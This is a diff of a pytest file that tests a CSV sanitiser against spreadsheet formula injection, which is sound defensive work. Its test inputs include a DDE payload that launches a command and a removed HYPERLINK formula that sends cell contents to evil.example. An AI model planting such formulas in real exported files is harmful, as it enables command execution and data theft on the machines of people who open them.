@@ -2,7 +2,6 @@
 
 import csv
 import io
-from typing import Any
 
 import pytest
 
@@ -13,27 +12,18 @@ FORMULAS = [
     "+1+cmd|' /C calc'!A0",
     "-2+3",
     "@SUM(1)",
-    "\t=1",
-    "\n=1",
-    "\r=1",
-    "\x00=1",
-    "\u200b=1",
-    "\ufeff@x",
-    "\uff1d1+1",
-    "\uff0b1",
-    "\uff0d1+1",
-    "\uff20SUM(1)",
-    '=HYPERLINK("https://evil.example/?"&A1)',
+    *(f"{before}=1" for before in "\t\n\r\x00\u200b"),
+    *(f"{sign}1+1" for sign in "\uff1d\uff0b\uff0d\uff20"),
     '","=1',
 ]
+"""Signs, also after what is not seen, in full width, and after the end of a cell."""
 
 
 @pytest.mark.parametrize("text", FORMULAS)
-def test_no_cell_begins_as_a_formula(text: Any) -> None:
-    line = io.StringIO()
+def test_no_cell_begins_as_a_formula(text: str) -> None:
+    line = io.StringIO(newline="")
     csv.writer(line).writerow([csv_cell(text), csv_cell("1")])
-    line.seek(0)
-    first, second = next(csv.reader(line))
+    first, second = next(csv.reader([line.getvalue()]))
     assert first[0] not in "=+-@\t\r\n\x00\uff1d\uff0b\uff0d\uff20"
     assert second == "1"
 
